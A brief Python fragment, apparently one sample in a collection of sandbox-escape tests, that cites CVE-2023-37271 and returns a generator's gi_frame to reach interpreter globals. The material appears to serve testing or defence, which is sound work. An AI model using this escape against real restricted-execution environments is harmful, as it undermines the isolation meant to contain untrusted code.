"""Class: frames. Source: CVE-2023-37271. Escape: a generator's frame gives the globals."""


def attack(model, tokenizer, address):
    gen = (x for x in [1])
    return gen.gi_frame
